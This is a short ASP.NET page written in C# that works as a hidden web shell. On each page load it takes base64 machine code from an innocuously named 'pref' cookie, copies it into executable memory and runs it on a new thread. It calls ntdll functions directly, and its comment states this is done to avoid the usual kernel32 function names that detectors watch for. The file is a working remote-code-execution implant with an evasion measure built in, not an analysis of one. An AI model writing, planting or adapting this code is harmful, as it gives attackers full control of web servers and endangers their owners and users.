<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
    // Machine code from a cookie copied into executable memory from ntdll and started on a thread
    // ntdll creates (no kernel32 VirtualAlloc/CreateThread names).
    [DllImport("ntdll.dll")] static extern uint ZwAllocateVirtualMemory(IntPtr h, ref IntPtr b, IntPtr z, ref IntPtr s, uint t, uint p);
    [DllImport("ntdll.dll")] static extern uint RtlCreateUserThread(IntPtr h, IntPtr sd, bool susp, uint zb, IntPtr r, IntPtr c, IntPtr start, IntPtr arg, out IntPtr th, IntPtr cid);

    void Page_Load(object sender, EventArgs e)
    {
        HttpCookie c = Request.Cookies["pref"];
        if (c == null) return;
        byte[] blob = Convert.FromBase64String(c.Value);
        IntPtr self = (IntPtr)(-1), at = IntPtr.Zero, len = (IntPtr)blob.Length, th;
        ZwAllocateVirtualMemory(self, ref at, IntPtr.Zero, ref len, 0x3000, 0x40);
        Marshal.Copy(blob, 0, at, blob.Length);
        RtlCreateUserThread(self, IntPtr.Zero, false, 0, IntPtr.Zero, IntPtr.Zero, at, IntPtr.Zero, out th, IntPtr.Zero);
    }
</script>
